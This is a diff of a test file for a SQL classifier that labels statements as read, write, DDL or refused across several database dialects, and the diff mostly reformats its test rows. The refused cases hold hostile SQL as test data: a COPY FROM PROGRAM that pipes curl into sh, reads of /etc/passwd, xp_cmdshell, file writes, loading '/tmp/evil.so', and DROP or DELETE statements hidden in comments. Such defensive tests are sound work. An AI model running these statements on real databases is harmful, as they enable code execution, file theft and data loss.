@@ -80,7 +80,11 @@ describe('classifySql: reads', () => {
       expect: { all: 'read' },
       tables: ['customers'],
     },
-    { sql: 'SELECT name FROM customers UNION SELECT name FROM suppliers', expect: { all: 'read' }, tables: ['customers', 'suppliers'] },
+    {
+      sql: 'SELECT name FROM customers UNION SELECT name FROM suppliers',
+      expect: { all: 'read' },
+      tables: ['customers', 'suppliers'],
+    },
     { sql: 'SELECT id FROM a EXCEPT SELECT id FROM b', expect: { postgresql: 'read', mysql: 'read', mariadb: 'read' } },
     { sql: 'SELECT name FROM customers WHERE id IN (SELECT customer_id FROM orders)', expect: { all: 'read' } },
     { sql: 'SELECT * FROM (SELECT name FROM customers) AS sub', expect: { all: 'read' }, tables: ['customers'] },
@@ -94,8 +98,11 @@ describe('classifySql: reads', () => {
     { sql: 'SELECT `delete` FROM `update`', expect: { mysql: 'read', mariadb: 'read', sqlite: 'read' } },
     { sql: 'SELECT [delete] FROM [update]', expect: { transactsql: 'read' } },
     { sql: 'SELECT TOP 5 name FROM customers', expect: { transactsql: 'read', snowflake: 'read' } },
-    { sql: 'SELECT name FROM customers LIMIT 5', expect: { sqlite: 'read', postgresql: 'read', mysql: 'read', mariadb: 'read', snowflake: 'read' } },
-    { sql: "SELECT $$a;b$$ AS s", expect: { postgresql: 'read' } },
+    {
+      sql: 'SELECT name FROM customers LIMIT 5',
+      expect: { sqlite: 'read', postgresql: 'read', mysql: 'read', mariadb: 'read', snowflake: 'read' },
+    },
+    { sql: 'SELECT $$a;b$$ AS s', expect: { postgresql: 'read' } },
     { sql: "SELECT $tag$ '; DELETE FROM t; $tag$ AS s", expect: { postgresql: 'read' } },
     { sql: "SELECT 'it''s; fine' AS s", expect: { all: 'read' } },
     { sql: "SELECT 'it\\'s; fine' AS s", expect: { mysql: 'read', mariadb: 'read' } },
@@ -110,7 +117,12 @@ describe('classifySql: writes', () => {
     { sql: 'INSERT INTO t (a) SELECT a FROM u', expect: { all: 'write' }, tables: ['t', 'u'] },
     { sql: 'UPDATE t SET a = 1 WHERE b = 2', expect: { all: 'write' }, statementType: 'update', tables: ['t'] },
     // Snowflake's grammar in node-sql-parser 5.4 has no DELETE: refused, never read.
-    { sql: 'DELETE FROM t WHERE a = 1', expect: { all: 'write', snowflake: 'refused' }, statementType: 'delete', tables: ['t'] },
+    {
+      sql: 'DELETE FROM t WHERE a = 1',
+      expect: { all: 'write', snowflake: 'refused' },
+      statementType: 'delete',
+      tables: ['t'],
+    },
     { sql: 'REPLACE INTO t (a) VALUES (1)', expect: { all: 'write' }, statementType: 'replace' },
     {
       sql: 'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2',
@@ -145,9 +157,19 @@ describe('classifySql: writes', () => {
     },
     // DELETE ... RETURNING inside WITH is beyond the PostgreSQL grammar of node-sql-parser 5.4: refused.
     { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', expect: { postgresql: 'refused' } },
-    { sql: 'SELECT * FROM t FOR UPDATE', expect: { mysql: 'write', mariadb: 'write', postgresql: 'refused', sqlite: 'refused' }, reason: /FOR UPDATE/, reasonFor: 'write' },
+    {
+      sql: 'SELECT * FROM t FOR UPDATE',
+      expect: { mysql: 'write', mariadb: 'write', postgresql: 'refused', sqlite: 'refused' },
+      reason: /FOR UPDATE/,
+      reasonFor: 'write',
+    },
     // MariaDB's grammar rejects LOCK IN SHARE MODE; the MySQL fallback parses it.
-    { sql: 'SELECT * FROM t LOCK IN SHARE MODE', expect: { mysql: 'write', mariadb: 'write' }, reason: /LOCK IN SHARE MODE/, reasonFor: 'write' },
+    {
+      sql: 'SELECT * FROM t LOCK IN SHARE MODE',
+      expect: { mysql: 'write', mariadb: 'write' },
+      reason: /LOCK IN SHARE MODE/,
+      reasonFor: 'write',
+    },
     { sql: 'SELECT * FROM t FOR SHARE', expect: { all: 'refused' } },
   ];
   it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
@@ -162,9 +184,17 @@ describe('classifySql: DDL and admin statements', () => {
     { sql: 'DROP TABLE t', expect: { all: 'ddl' }, statementType: 'drop', tables: ['t'] },
     { sql: 'DROP INDEX i', expect: { postgresql: 'ddl', snowflake: 'ddl' } },
     { sql: 'TRUNCATE TABLE t', expect: { all: 'ddl' }, statementType: 'truncate' },
-    { sql: 'RENAME TABLE t TO u', expect: { mysql: 'ddl', mariadb: 'ddl', postgresql: 'refused' }, statementType: 'rename' },
+    {
+      sql: 'RENAME TABLE t TO u',
+      expect: { mysql: 'ddl', mariadb: 'ddl', postgresql: 'refused' },
+      statementType: 'rename',
+    },
     { sql: 'ALTER TABLE t RENAME TO u', expect: { all: 'ddl' } },
-    { sql: 'GRANT SELECT ON t TO bob', expect: { postgresql: 'ddl', mysql: 'ddl', mariadb: 'ddl', transactsql: 'refused' }, statementType: 'grant' },
+    {
+      sql: 'GRANT SELECT ON t TO bob',
+      expect: { postgresql: 'ddl', mysql: 'ddl', mariadb: 'ddl', transactsql: 'refused' },
+      statementType: 'grant',
+    },
     { sql: 'REVOKE SELECT ON t FROM bob', expect: { postgresql: 'ddl', sqlite: 'ddl' }, statementType: 'revoke' },
     { sql: 'SET x = 1', expect: { mysql: 'ddl', postgresql: 'ddl', sqlite: 'ddl' }, statementType: 'set' },
     { sql: 'LOCK TABLES t READ', expect: { mysql: 'ddl', mariadb: 'ddl' }, statementType: 'lock' },
@@ -173,7 +203,12 @@ describe('classifySql: DDL and admin statements', () => {
     { sql: 'EXEC dbo.refresh_stats', expect: { transactsql: 'ddl' }, statementType: 'exec' },
     { sql: 'USE db', expect: { all: 'ddl' }, statementType: 'use' },
     { sql: 'SHOW TABLES', expect: { mysql: 'ddl', postgresql: 'ddl', sqlite: 'ddl' } },
-    { sql: 'SELECT * INTO new_t FROM t', expect: { postgresql: 'ddl', transactsql: 'ddl', mysql: 'ddl', sqlite: 'ddl' }, statementType: 'select', tables: ['new_t', 't'] },
+    {
+      sql: 'SELECT * INTO new_t FROM t',
+      expect: { postgresql: 'ddl', transactsql: 'ddl', mysql: 'ddl', sqlite: 'ddl' },
+      statementType: 'select',
+      tables: ['new_t', 't'],
+    },
     { sql: 'SELECT a INTO @v FROM t', expect: { mysql: 'ddl', mariadb: 'ddl' } },
   ];
   it.each(rows(cases))('%s [%s] -> %s', (sql, dialect, kind, c) => check(sql, dialect, kind, c));
@@ -186,13 +221,24 @@ describe('classifySql: stacked and hidden statements', () => {
     { sql: 'SELECT 1;\nSELECT 2;\nSELECT 3', expect: { all: 'refused' }, reason: /^3 statements found/ },
     { sql: "SELECT 'a'; UPDATE t SET a = ';'", expect: { all: 'refused' }, reason: /^2 statements found/ },
     // MySQL: `--` without a following space is arithmetic, so the DROP is a second statement there.
-    { sql: 'SELECT 1--1; DROP TABLE t', expect: { mysql: 'refused', mariadb: 'refused' }, reason: /^2 statements found/ },
+    {
+      sql: 'SELECT 1--1; DROP TABLE t',
+      expect: { mysql: 'refused', mariadb: 'refused' },
+      reason: /^2 statements found/,
+    },
     // MySQL runs the content of /*! ... */.
-    { sql: 'SELECT 1 /*! ; DROP TABLE t */', expect: { mysql: 'refused', mariadb: 'refused', postgresql: 'read' }, reason: /executable comment/ },
+    {
+      sql: 'SELECT 1 /*! ; DROP TABLE t */',
+      expect: { mysql: 'refused', mariadb: 'refused', postgresql: 'read' },
+      reason: /executable comment/,
+    },
     // T-SQL needs no semicolon between statements: the parser does not accept this as one statement.
     { sql: 'SELECT 1 DELETE FROM t', expect: { transactsql: 'refused' } },
     // PostgreSQL nests block comments, so the DELETE is inside the comment there; elsewhere it is a 2nd statement.
-    { sql: 'SELECT 1 /* a /* b */ ; DELETE FROM t */', expect: { postgresql: 'read', sqlite: 'refused', mysql: 'refused' } },
+    {
+      sql: 'SELECT 1 /* a /* b */ ; DELETE FROM t */',
+      expect: { postgresql: 'read', sqlite: 'refused', mysql: 'refused' },
+    },
     // SQLite binds #x as a parameter; the parser's sqlite grammar would skip it as a comment and see only `SELECT 1`.
     { sql: 'SELECT 1 #x\n, 2', expect: { sqlite: 'refused' }, reason: /SQLite reads #name as a parameter/ },
   ];
@@ -215,7 +261,7 @@ describe('classifySql: always refused', () => {
     // PostgreSQL
     { sql: "COPY t FROM PROGRAM 'curl http://x | sh'", expect: { all: 'refused' }, reason: /COPY/ },
     { sql: "COPY t TO '/tmp/x'", expect: { all: 'refused' }, reason: /COPY/ },
-    { sql: "COPY (SELECT 1) TO STDOUT", expect: { postgresql: 'refused' }, reason: /COPY/ },
+    { sql: 'COPY (SELECT 1) TO STDOUT', expect: { postgresql: 'refused' }, reason: /COPY/ },
     { sql: "SELECT pg_read_file('/etc/passwd')", expect: { all: 'refused' }, reason: /pg_read_file/ },
     { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", expect: { all: 'refused' }, reason: /pg_read_file/ },
     { sql: "SELECT pg_read_binary_file('/etc/passwd')", expect: { all: 'refused' }, reason: /pg_read_binary_file/ },
@@ -240,10 +286,18 @@ describe('classifySql: always refused', () => {
     { sql: 'SELECT CAST(pg_sleep(1) AS text)', expect: { all: 'refused' }, reason: /pg_sleep/ },
     { sql: 'SELECT CASE WHEN 1 = 1 THEN pg_sleep(1) END', expect: { all: 'refused' }, reason: /pg_sleep/ },
     { sql: 'SELECT name FROM t ORDER BY pg_sleep(1)', expect: { all: 'refused' }, reason: /pg_sleep/ },
-    { sql: 'SELECT a FROM t JOIN u ON u.id = t.id AND pg_sleep(1) IS NULL', expect: { all: 'refused' }, reason: /pg_sleep/ },
-    { sql: 'SELECT name FROM t GROUP BY name HAVING MAX(pg_sleep(1)) IS NULL', expect: { all: 'refused' }, reason: /pg_sleep/ },
+    {
+      sql: 'SELECT a FROM t JOIN u ON u.id = t.id AND pg_sleep(1) IS NULL',
+      expect: { all: 'refused' },
+      reason: /pg_sleep/,
+    },
+    {
+      sql: 'SELECT name FROM t GROUP BY name HAVING MAX(pg_sleep(1)) IS NULL',
+      expect: { all: 'refused' },
+      reason: /pg_sleep/,
+    },
     { sql: 'SELECT a FROM (SELECT sleep(1) AS a) s', expect: { all: 'refused' }, reason: /sleep/ },
-    { sql: "DO $$ BEGIN DELETE FROM t; END $$", expect: { postgresql: 'refused' }, reason: /DO runs/ },
+    { sql: 'DO $$ BEGIN DELETE FROM t; END $$', expect: { postgresql: 'refused' }, reason: /DO runs/ },
     { sql: "LOAD '/tmp/evil.so'", expect: { postgresql: 'refused' }, reason: /LOAD/ },
     // MySQL / MariaDB
     { sql: "SELECT LOAD_FILE('/etc/passwd')", expect: { all: 'refused' }, reason: /load_file/ },
@@ -251,18 +305,38 @@ describe('classifySql: always refused', () => {
     { sql: "SELECT BENCHMARK(1000000, MD5('a'))", expect: { all: 'refused' }, reason: /benchmark/ },
     { sql: "SELECT GET_LOCK('x', 10)", expect: { all: 'refused' }, reason: /get_lock/ },
     { sql: "LOAD DATA INFILE '/tmp/x' INTO TABLE t", expect: { all: 'refused' }, reason: /LOAD/ },
-    { sql: "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t", expect: { mysql: 'refused', mariadb: 'refused' }, reason: /LOAD/ },
+    {
+      sql: "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t",
+      expect: { mysql: 'refused', mariadb: 'refused' },
+      reason: /LOAD/,
+    },
     { sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'", expect: { all: 'refused' } },
-    { sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'", expect: { mysql: 'refused', mariadb: 'refused' }, reason: /INTO OUTFILE/ },
-    { sql: "SELECT * INTO OUTFILE '/tmp/x' FROM t", expect: { mysql: 'refused', mariadb: 'refused' }, reason: /INTO OUTFILE/ },
-    { sql: "SELECT * FROM t INTO DUMPFILE '/tmp/x'", expect: { mysql: 'refused', mariadb: 'refused' }, reason: /INTO DUMPFILE/ },
+    {
+      sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'",
+      expect: { mysql: 'refused', mariadb: 'refused' },
+      reason: /INTO OUTFILE/,
+    },
+    {
+      sql: "SELECT * INTO OUTFILE '/tmp/x' FROM t",
+      expect: { mysql: 'refused', mariadb: 'refused' },
+      reason: /INTO OUTFILE/,
+    },
+    {
+      sql: "SELECT * FROM t INTO DUMPFILE '/tmp/x'",
+      expect: { mysql: 'refused', mariadb: 'refused' },
+      reason: /INTO DUMPFILE/,
+    },
     { sql: 'DO SLEEP(5)', expect: { mysql: 'refused', mariadb: 'refused' }, reason: /DO runs/ },
     // SQL Server
     { sql: "EXEC xp_cmdshell 'dir'", expect: { all: 'refused' } },
     { sql: "EXEC xp_cmdshell 'dir'", expect: { transactsql: 'refused' }, reason: /xp_cmdshell/ },
     { sql: "EXEC master..xp_cmdshell 'dir'", expect: { transactsql: 'refused' }, reason: /xp_cmdshell/ },
     { sql: 'EXEC sp_who', expect: { transactsql: 'refused' }, reason: /sp_who/ },
-    { sql: "EXEC [master].[sys].[sp_configure] 'show advanced options', 1", expect: { transactsql: 'refused' }, reason: /sp_configure/ },
+    {
+      sql: "EXEC [master].[sys].[sp_configure] 'show advanced options', 1",
+      expect: { transactsql: 'refused' },
+      reason: /sp_configure/,
+    },
     { sql: "EXECUTE sp_executesql N'DROP TABLE t'", expect: { transactsql: 'refused' }, reason: /sp_executesql/ },
     { sql: "EXEC ('DROP TABLE t')", expect: { transactsql: 'refused' }, reason: /dynamic SQL/ },
     {
@@ -271,7 +345,11 @@ describe('classifySql: always refused', () => {
       reason: /openrowset/,
     },
     { sql: "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t", expect: { transactsql: 'refused' } },
-    { sql: "SELECT OPENDATASOURCE('SQLNCLI', 'Data Source=x') AS d", expect: { transactsql: 'refused' }, reason: /opendatasource/ },
+    {
+      sql: "SELECT OPENDATASOURCE('SQLNCLI', 'Data Source=x') AS d",
+      expect: { transactsql: 'refused' },
+      reason: /opendatasource/,
+    },
     { sql: "BULK INSERT t FROM '/tmp/x.csv'", expect: { transactsql: 'refused' }, reason: /BULK/ },
     { sql: "SELECT * FROM OPENQUERY(srv, 'select 1')", expect: { transactsql: 'refused' }, reason: /openquery/ },
   ];
